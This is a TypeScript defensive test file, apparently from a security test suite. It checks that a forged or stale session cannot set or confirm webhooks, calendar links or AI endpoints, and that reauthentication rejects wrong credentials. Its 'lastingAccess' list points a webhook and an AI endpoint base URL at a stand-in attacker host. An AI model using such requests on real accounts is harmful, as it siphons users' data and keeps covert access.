import type { Attack } from './attack.ts';
import { stackKey } from './signing-key.ts';

type Claims = Readonly<Record<string, unknown>>;

const claimsOf = (token: string): Claims => JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()) as Claims;

/** What sends the data of an account elsewhere for as long as the owner does not notice it. */
const lastingAccess = [
  ['PUT', '/api/schedule/webhook', { url: 'https://attacker.example/hook' }],
  ['POST', '/api/schedule/webhook/confirm', {}],
  ['POST', '/api/schedule/calendar-link', {}],
  ['POST', '/api/schedule/calendar-link/confirm', {}],
  ['PUT', '/api/ai/endpoint', { base_url: 'https://attacker.example/v1', text_model: 'writer' }],
  ['POST', '/api/ai/endpoint/confirm', {}],
] as const;

/** Attempts to turn a stolen session into lasting access. */
export const stolenSessionAttacks: readonly Attack[] = [
  {
    name: 'set or confirm a webhook, a calendar link or an AI endpoint with a session older than 15 minutes -> reauthentication_needed, nothing is set',
    run: async ({ createUser, request, send }) => {
      const owner = await createUser('owner');
      if (!owner) throw new Error('no user was created');
      const { recent_until: _, ...claims } = claimsOf(owner.token);
      const now = Math.floor(Date.now() / 1_000);
      // The second is a token from before the claim existed, the others are not numbers.
      for (const recent of [{ recent_until: now - 1 }, {}, { recent_until: String(now + 600) }, { recent_until: null }]) {
        const token = stackKey.sign({ ...claims, ...recent });
        for (const [method, path, body] of lastingAccess) {
          const { status, json } = await send(method, path, { token, body });
          expect([recent, path, status, json.code]).toEqual([recent, path, 403, 'reauthentication_needed']);
        }
      }
      expect(await request('GET', '/api/schedule/webhook', owner.token)).toEqual({ webhook: null });
      expect(await request('GET', '/api/schedule/calendar-link', owner.token)).toMatchObject({ exists: false });
      expect(await request('GET', '/api/ai', owner.token)).toMatchObject({ endpoint: null });
      // The owner, who signed in a moment ago, is not asked.
      expect((await send('POST', '/api/schedule/calendar-link', { token: owner.token, body: {} })).status).toBe(201);
    },
  },
  {
    name: "reauthenticate with a guessed password, another user's code -> refused",
    run: async (target) => {
      const [owner, attacker] = [await target.createUser('owner'), await target.createUser('other')];
      if (!owner || !attacker) throw new Error('no user was created');
      await target.request('GET', '/auth/v1/reauthenticate', attacker.token);
      const { code } = await target.latestMail(attacker.email);
      for (const body of [{ password: attacker.password.slice(1) }, { nonce: code }]) {
        const { status, json } = await target.send('POST', '/api/auth/reauthenticate', { token: owner.token, body });
        expect([body, status >= 400 && status < 500, 'recent_until' in json]).toEqual([body, true, false]);
      }
    },
  },
];
